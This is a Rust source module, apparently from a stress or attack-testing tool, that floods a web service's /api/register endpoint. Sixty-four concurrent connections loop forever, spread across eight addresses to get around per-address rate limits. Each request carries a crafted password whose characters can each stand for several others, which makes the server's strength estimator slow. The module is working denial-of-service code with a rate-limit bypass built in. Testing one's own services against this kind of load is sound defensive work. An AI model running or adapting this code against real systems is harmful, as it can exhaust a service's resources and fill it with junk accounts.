//! Registrations with passwords whose strength takes long to estimate, for each character can stand for several others.

use reqwest::Client;

use crate::attacker::{Attacker, crowd, fresh, send};
use crate::person::registration;

/// The number of addresses, because registrations from one address may be limited.
const ADDRESSES: u32 = 8;
const CONNECTIONS: u32 = 64;
const PASSWORDS: [&str; 4] =
    ["4@4@({[<69i!|1|7+$$5", "({[<4@|1|!7+69$$54@4", "4@8({[<36|1!|1!|1!0$5", "+7$5!1|4@({[<%2z4@4@({[<69i!|1|7+$$5"];

pub(super) async fn run(attacker: Attacker) {
    let clients: Vec<_> = (0..ADDRESSES).map(|address| attacker.neighbour(address).client()).collect();
    let at_address = |number| clients[(number % ADDRESSES) as usize].clone();
    crowd(CONNECTIONS, |number| again(attacker.clone(), at_address(number))).await;
}

async fn again(attacker: Attacker, client: Client) {
    let url = attacker.url("/api/register");
    loop {
        for password in PASSWORDS {
            let register = client.post(&url).json(&registration(&format!("expensive{}", fresh()), password));
            attacker.attempt(send(register)).await;
        }
    }
}
